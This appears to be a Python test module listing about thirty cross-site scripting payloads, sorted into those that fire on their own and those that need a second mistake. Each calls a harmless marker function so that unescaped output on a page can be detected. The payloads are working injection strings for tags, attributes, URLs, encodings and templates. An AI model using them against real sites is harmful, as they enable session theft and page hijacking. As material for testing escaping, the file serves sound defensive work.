"""Words that would be carried out where a page forgot to escape them: each calls the trap.

Written for this program: for text between tags, for values in either quotes, for addresses, for
what is decoded twice, and for templates. The first three are the ones that no page survives.
"""

TRAP = "nrmTrap"

# What runs by itself where nothing is escaped and no policy forbids it.
AT_ONCE = [
    "<script>nrmTrap(1)</script>",
    '"><img src=x: onerror=nrmTrap(2)>',
    "</textarea></title><svg onload=nrmTrap(3)>",
    "'><img src=x: onerror='nrmTrap(4)'>",
    "<body onpageshow=nrmTrap(5)>",
    "<iframe srcdoc='<script>parent.nrmTrap(6)</script>'></iframe>",
    "<details open ontoggle=nrmTrap(7)>x</details>",
    "<input autofocus onfocus=nrmTrap(8)>",
    "<video><source onerror=nrmTrap(9)></video>",
    "<math><mtext><img src=x: onerror=nrmTrap(10)></mtext></math>",
    "<svg><animate onbegin=nrmTrap(11) attributeName=x dur=1s></svg>",
    "--><script>nrmTrap(12)</script><!--",
    "]]><script>nrmTrap(13)</script>",
    "<style onload=nrmTrap(14)></style>",
    "<link rel=stylesheet href=x: onerror=nrmTrap(15)>",
]
# What needs another mistake beside it: a value without quotes, a second decoding, a click.
WITH_HELP = [
    '" autofocus onfocus=nrmTrap(16) x="',
    "' autofocus onfocus=nrmTrap(17) x='",
    "javascript:nrmTrap(18)",
    "<a href=javascript:nrmTrap(19)>x</a>",
    "<form action=javascript:nrmTrap(20)><button>x</button></form>",
    "&lt;script&gt;nrmTrap(21)&lt;/script&gt;",
    "&#60;img src=x: onerror=nrmTrap(22)&#62;",
    "%3Cscript%3EnrmTrap(23)%3C/script%3E",
    "\\u003cscript\\u003enrmTrap(24)\\u003c/script\\u003e",
    "\uff1cscript\uff1enrmTrap(25)\uff1c/script\uff1e",
    "<scr<script>ipt>nrmTrap(26)</scr</script>ipt>",
    "{{ nrmTrap(27) }}{% include 'nrmTrap' %}",
    "data:text/html,<script>nrmTrap(28)</script>",
    "<base href=https://elsewhere.example/nrmTrap>",
    "<meta http-equiv=refresh content='0;url=javascript:nrmTrap(30)'>",
]
VECTORS = AT_ONCE + WITH_HELP
# As many as a line of two hundred letters holds.
AT_A_TIME = 3


def parts():
    """Cut the corpus into what is typed into one field."""
    return [VECTORS[at : at + AT_A_TIME] for at in range(0, len(VECTORS), AT_A_TIME)]
